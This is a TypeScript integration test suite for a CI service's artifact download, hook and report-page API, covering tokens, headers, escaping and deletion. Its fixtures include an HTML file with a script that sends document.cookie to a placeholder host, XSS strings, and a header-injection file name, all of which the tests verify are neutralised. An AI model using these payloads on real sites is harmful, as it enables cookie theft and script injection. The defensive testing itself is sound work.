// A build's artifacts and hooks through the real API over HTTP, on a real PostgreSQL and a
// directory store: the list (admin token), the download (the report's token or the admin
// token, else 404), always an attachment that cannot run in Sluice's origin, streamed from the
// store; hooks, workers' notes and artifacts in GET /api/v1/sessions/:id and on the report
// page, escaped; a repository deleted through the API takes its sessions' blobs with it.
import { mkdir, mkdtemp, readdir, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { collectArtifacts } from '../../src/steps/artifacts';
import { finishHook, startHook } from '../../src/db/sessionHooks';
import { markWorkerReady, recordWorkerStep } from '../../src/db/sessionWorkers';
import { reportTokenOf } from '../../src/db/sessions';
import { openStore, type BlobStore } from '../../src/store';
import { startApiHarness, type ApiHarness } from '../support/apiApp';
import { insertPostSession, type PostSession } from '../support/postSession';
import { eventually } from '../support/wait';
import { pgBuildRecords } from '../../src/db/buildRecords';

let h: ApiHarness;
let work: string;
let store: BlobStore;
let s: PostSession;
let token: string;
let other: PostSession;
let otherToken: string;

const HTML = '<!doctype html><title>coverage</title><script>fetch("http://127.0.0.1:9/x?c=" + document.cookie)</script>';
const BIG = Buffer.alloc(3 * 1024 * 1024 + 17, 'x');

async function collect(sessionId: number, worker: number, files: Record<string, string | Buffer>): Promise<void> {
  const tree = path.join(work, `tree-${sessionId}-${worker}`);
  for (const [rel, content] of Object.entries(files)) {
    await mkdir(path.dirname(path.join(tree, rel)), { recursive: true });
    await writeFile(path.join(tree, rel), content);
  }
  const result = await collectArtifacts({ records: pgBuildRecords(h.db.pool, h.config.secretKey), store, limits: { maxFileBytes: 1 << 24, maxBuildBytes: 1 << 26 } }, { sessionId, worker, tree, patterns: ['**/*'] });
  expect(result.notes).toEqual([]);
}

beforeAll(async () => {
  work = await mkdtemp(path.join(os.tmpdir(), 'sluice-artifacts-api-'));
  h = await startApiHarness({ config: { store: { kind: 'dir', dir: path.join(work, 'store') } } });
  store = openStore(h.config.store!);
  s = await insertPostSession(h.db.pool, h.config.secretKey);
  other = await insertPostSession(h.db.pool, h.config.secretKey);
  await h.db.pool.query(`UPDATE sessions SET status = 'passed' WHERE id = ANY($1)`, [[s.sessionId, other.sessionId]]);
  token = (await reportTokenOf(h.db.pool, s.sessionId))!;
  otherToken = (await reportTokenOf(h.db.pool, other.sessionId))!;
  await collect(s.sessionId, 1, { 'coverage/index.html': HTML, 'reports/résumé ✓.txt': 'unicode' });
  await collect(s.sessionId, 2, { 'big/blob.bin': BIG, 'odd/a"b;c\\d.txt': 'odd' });
  await collect(other.sessionId, 1, { 'theirs.txt': 'theirs' });
});

afterAll(async () => {
  await h?.close();
  await rm(work, { recursive: true, force: true });
});

const artifactsOf = async (session: number) => (await h.admin('GET', `/api/v1/sessions/${session}/artifacts`)).json() as { path: string; worker: number; size: number; url: string }[];
/** The download's path on this server (the URL names the configured base URL). */
const local = (url: string) => {
  const u = new URL(url);
  return `${u.pathname}${u.search}`;
};

describe('GET /api/v1/sessions/:id/artifacts', () => {
  it('lists the files with worker, size and a URL opened by the report token', async () => {
    const list = await artifactsOf(s.sessionId);
    const base = `${h.config.baseUrl}/1/reports/${s.sessionId}/artifacts/`;
    expect(list).toEqual([
      { path: 'coverage/index.html', worker: 1, size: Buffer.byteLength(HTML), url: expect.stringMatching(new RegExp(`^${base}\\d+\\?token=${token}$`)) },
      { path: 'reports/résumé ✓.txt', worker: 1, size: 7, url: expect.stringMatching(new RegExp(`^${base}\\d+\\?token=${token}$`)) },
      { path: 'big/blob.bin', worker: 2, size: BIG.length, url: expect.any(String) },
      { path: 'odd/a"b;c\\d.txt', worker: 2, size: 3, url: expect.any(String) },
    ]);
  });

  it('needs the admin token; an unknown session is 404', async () => {
    expect((await h.request({ method: 'GET', url: `/api/v1/sessions/${s.sessionId}/artifacts` })).statusCode).toBe(401);
    expect((await h.request({ method: 'GET', url: `/api/v1/sessions/${s.sessionId}/artifacts?token=${token}` })).statusCode).toBe(401);
    expect((await h.admin('GET', '/api/v1/sessions/999999/artifacts')).statusCode).toBe(404);
    expect(await artifactsOf(other.sessionId)).toEqual([expect.objectContaining({ path: 'theirs.txt', worker: 1, size: 6 })]);
  });
});

describe('downloading an artifact', () => {
  it('is always an attachment of no type a browser would run, with nosniff and a sandboxing CSP', async () => {
    const [html] = await artifactsOf(s.sessionId);
    const res = await h.request({ method: 'GET', url: local(html!.url), headers: { accept: 'text/html' } });
    expect(res.statusCode).toBe(200);
    expect(res.body).toBe(HTML);
    expect(res.headers['content-disposition']).toBe("attachment; filename*=UTF-8''index.html");
    expect(res.headers['content-type']).toBe('application/octet-stream');
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(res.headers['content-security-policy']).toBe("sandbox; default-src 'none'");
    expect(res.headers['content-length']).toBe(String(Buffer.byteLength(HTML)));
    expect(res.headers['referrer-policy']).toBe('no-referrer');
    expect(res.headers['cache-control']).toBe('private, no-store');
  });

  it('names the file safely: the last segment, percent-encoded, nothing a header or file system reads as structure', async () => {
    const list = await artifactsOf(s.sessionId);
    const disposition = async (p: string) => (await h.request({ method: 'GET', url: local(list.find((a) => a.path === p)!.url) })).headers['content-disposition'];
    expect(await disposition('reports/résumé ✓.txt')).toBe("attachment; filename*=UTF-8''r%C3%A9sum%C3%A9%20%E2%9C%93.txt");
    // `"`, `;` and `\` become `_`: nothing to end a parameter or climb a path with.
    expect(await disposition('odd/a"b;c\\d.txt')).toBe("attachment; filename*=UTF-8''a_b_c_d.txt");
  });

  it('streams a large file whole, with its length', async () => {
    const big = (await artifactsOf(s.sessionId)).find((a) => a.path === 'big/blob.bin')!;
    const res = await h.request({ method: 'GET', url: local(big.url) });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-length']).toBe(String(BIG.length));
    expect(res.body.length).toBe(BIG.length);
    expect(res.body).toBe(BIG.toString());
  });

  it('is 404 without the token, with a wrong one, with another report\'s, or for another session\'s artifact; the admin token opens it', async () => {
    const [html] = await artifactsOf(s.sessionId);
    const [theirs] = await artifactsOf(other.sessionId);
    const bare = new URL(html!.url).pathname;
    const answers = await Promise.all(
      [
        bare,
        `${bare}?token=`,
        `${bare}?token=${'0'.repeat(token.length)}`,
        `${bare}?token=${otherToken}`,
        `${bare}?token=${token}x`,
        // Another session's artifact under this session's path and token.
        `/1/reports/${s.sessionId}/artifacts/${new URL(theirs!.url).pathname.split('/').at(-1)}?token=${token}`,
        `/1/reports/${s.sessionId}/artifacts/999999?token=${token}`,
        `/1/reports/${s.sessionId}/artifacts/abc?token=${token}`,
      ].map(async (url) => [url, (await h.request({ method: 'GET', url })).statusCode]),
    );
    expect(answers.filter(([, status]) => status !== 404)).toEqual([]);
    const notFound = await h.request({ method: 'GET', url: bare });
    expect(notFound.body).not.toContain('coverage');

    const admin = await h.request({ method: 'GET', url: bare, headers: { authorization: `Bearer ${h.config.adminToken}` } });
    expect(admin.statusCode).toBe(200);
    expect(admin.body).toBe(HTML);
    expect(admin.headers['content-disposition']).toBe("attachment; filename*=UTF-8''index.html");
    expect(admin.headers['x-content-type-options']).toBe('nosniff');
    expect(admin.headers['content-security-policy']).toBe("sandbox; default-src 'none'");
    expect((await h.request({ method: 'GET', url: bare, headers: { authorization: 'Bearer not-the-admin-token-at-all' } })).statusCode).toBe(404);
  });

  it('is 404 when the store has lost the blob', async () => {
    const session = await insertPostSession(h.db.pool, h.config.secretKey);
    await collect(session.sessionId, 1, { 'gone.txt': 'gone' });
    const [gone] = await artifactsOf(session.sessionId);
    await store.deletePrefix(`artifacts/${session.sessionId}`);
    expect((await h.request({ method: 'GET', url: local(gone!.url) })).statusCode).toBe(404);
  });
});

describe('hooks, workers and artifacts in the session', () => {
  let session: number;
  const long = `${'a'.repeat(1000)}${'b'.repeat(3000)}<script>alert(1)</script>${'c'.repeat(974)}`;
  beforeAll(async () => {
    session = (await insertPostSession(h.db.pool, h.config.secretKey)).sessionId;
    const setup = await startHook(h.db.pool, { sessionId: session, name: 'package_setup', worker: 1, command: 'npm ci', detail: 'detected: package-lock.json', runner: 'r1' });
    await finishHook(h.db.pool, setup, { status: 'passed', exitCode: 0, durationMs: 1234, output: long });
    await startHook(h.db.pool, { sessionId: session, name: 'post_build', worker: null, command: './notify "<b>"', detail: null, runner: 'r1' });
    await recordWorkerStep(h.db.pool, session, 1, 'r1', { package_setup: 1700000000 }, ['cache: restored <node_modules> from master']);
    await markWorkerReady(h.db.pool, session, 1, 'r1');
    await collect(session, 1, { 'out/<img src=x onerror=alert(1)>.html': 'x' });
  });

  it('GET /api/v1/sessions/:id has them, hooks with the end of their output', async () => {
    const view = (await h.admin('GET', `/api/v1/sessions/${session}`)).json();
    expect(view.hooks).toEqual([
      {
        name: 'package_setup',
        worker: 1,
        command: 'npm ci',
        status: 'passed',
        exit_code: 0,
        duration_ms: 1234,
        output_tail: long.slice(-4000),
        output_truncated: true,
        detail: 'detected: package-lock.json',
        runner: 'r1',
        started_at: expect.any(String),
        finished_at: expect.any(String),
      },
      expect.objectContaining({ name: 'post_build', worker: null, status: 'running', exit_code: null, duration_ms: null, output_tail: '', output_truncated: false, finished_at: null }),
    ]);
    expect(view.hooks[0].output_tail).toHaveLength(4000);
    expect(view.worker_setup).toEqual([{ worker: 1, runner: 'r1', ready_at: expect.any(String), failure: null, notes: ['cache: restored <node_modules> from master'] }]);
    expect(view.artifacts).toEqual([{ path: 'out/<img src=x onerror=alert(1)>.html', worker: 1, size: 1, url: expect.stringContaining(`/1/reports/${session}/artifacts/`) }]);
    // The report's JSON twin says the same.
    const report = await h.request({ method: 'GET', url: local(view.url), headers: { accept: 'application/json' } });
    expect(report.json()).toMatchObject({ hooks: view.hooks, worker_setup: view.worker_setup, artifacts: view.artifacts });
  });

  it('the report page lists them, everything escaped, downloads linked with the token', async () => {
    const view = (await h.admin('GET', `/api/v1/sessions/${session}`)).json();
    const page = (await h.request({ method: 'GET', url: local(view.url) })).body;
    expect(page).toContain('<h2>Hooks</h2>');
    expect(page).toContain('<code>npm ci</code><br>detected: package-lock.json');
    expect(page).toContain('<summary>end of the output</summary>');
    expect(page).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(page).toContain('<code>./notify &quot;&lt;b&gt;&quot;</code>');
    expect(page).toMatch(/<th>post_build<\/th><td>build<\/td><td><span class="running">running<\/span><\/td><td><\/td><td>running<\/td>/);
    expect(page).toContain('<li>cache: restored &lt;node_modules&gt; from master</li>');
    expect(page).toContain(`<a href="${local(view.artifacts[0].url)}" download rel="noopener noreferrer">out/&lt;img src=x onerror=alert(1)&gt;.html</a>`);
    expect(page).not.toContain('<img src=x');
    expect(page).not.toContain('<script>alert(1)');
  });
});

it("deleting a repository through the API deletes its sessions' blobs", async () => {
  const doomed = await insertPostSession(h.db.pool, h.config.secretKey);
  await h.db.pool.query(`UPDATE sessions SET status = 'failed' WHERE id = $1`, [doomed.sessionId]);
  await collect(doomed.sessionId, 1, { 'a.txt': 'a', 'b/c.txt': 'c' });
  const folder = path.join(work, 'store', 'artifacts', String(doomed.sessionId));
  expect(await readdir(path.join(folder, '1'))).toHaveLength(2);

  expect((await h.admin('DELETE', `/api/v1/repos/${doomed.repoId}`)).statusCode).toBe(204);
  await eventually('the blobs deleted', async () => (await readdir(folder).catch(() => null)) === null, 10_000);
  await eventually('the deletion forgotten', async () => (await h.db.pool.query('SELECT 1 FROM artifact_deletions')).rowCount === 0, 10_000);
  // The other sessions' are still there.
  expect(await readdir(path.join(work, 'store', 'artifacts', String(s.sessionId), '1'))).toHaveLength(2);
});
